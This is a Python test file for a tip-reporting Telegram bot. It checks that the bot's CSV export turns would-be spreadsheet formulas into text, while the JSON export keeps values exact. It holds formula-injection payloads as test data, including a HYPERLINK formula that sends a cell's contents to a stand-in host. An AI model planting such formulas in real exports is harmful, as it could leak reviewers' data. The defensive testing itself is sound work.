"""The CSV export cannot carry formulas into a reviewer's spreadsheet (security review, finding 11): a text
cell a spreadsheet would read as a formula is prefixed with an apostrophe. The JSON export stays exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.tg import callbacks
from bot.tips.export import FORMULA_START, neutralised, to_csv, to_json
from tests.botenv import running_bot
from tests.chat import Chat
from tests.tipchat import fill_report

OWNER, REVIEWER, REPORTER = 9001, 9002, 6501
WHO = '=HYPERLINK("http://x/?"&B2,"x")'
REGENCY = "@SUM(1+1)"


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_that_would_be_a_formula_becomes_text(start):
    value = f"{start}1+1"
    [row] = read_csv(to_csv([{"public_no": "LPR-2026-000001", "who": value}]))
    assert row == {"public_no": "LPR-2026-000001", "who": "'" + value}


def test_other_cells_are_written_as_given():
    rows = [
        {"public_no": "LPR-2026-000001", "who": "Kepala Bidang", "regency": "Kab. Sleman", "links": "",
         "description": "foto 2 jari; -- lalu =ajakan", "evidence_files": 2, "history": " =1+1", "n": -3},
    ]  # fmt: skip
    [row] = read_csv(to_csv(rows))
    assert row == {k: str(v) for k, v in rows[0].items()}
    assert neutralised(-3) == -3 and neutralised(None) is None
    assert read_csv(to_csv([])) == [] and to_csv([]).decode("utf-8-sig").strip() == "public_no"


def test_json_keeps_every_value_exactly():
    rows = [{"public_no": "LPR-2026-000001", "reported_person": WHO, "regency": REGENCY, "history": "-\t\r+"}]
    assert json.loads(to_json(rows)) == rows


async def test_a_reporters_formulas_reach_the_reviewer_as_text(tmp_path):
    async with running_bot(tmp_path / "data", admin_ids=frozenset({OWNER})) as env:
        await Chat(env.fake, OWNER).say(f"/grant {REVIEWER} reviewer")
        reporter, reviewer = Chat(env.fake, REPORTER), Chat(env.fake, REVIEWER)
        review = await fill_report(reporter)
        await reporter.press(review, callbacks.TipButton("edit", "who"))
        [review] = await reporter.say(WHO)
        await reporter.press(review, callbacks.TipButton("edit", "regency"))
        [review] = await reporter.say(REGENCY)
        assert "Periksa laporan" in review.text and "HYPERLINK" in review.text and REGENCY in review.text
        [receipt] = await reporter.press(review, callbacks.TipButton("send"))
        assert "LPR-" in receipt.text

        reviewer.send("/export")  # answered with a document, not a message
        [document] = await reviewer.wait_sent("sendDocument")
        [row] = read_csv(document.params["document"]["content"])
        assert row["reported_person"] == "'" + WHO and row["regency"] == "'" + REGENCY
        assert row["public_no"].startswith("LPR-") and row["description"][0] not in FORMULA_START
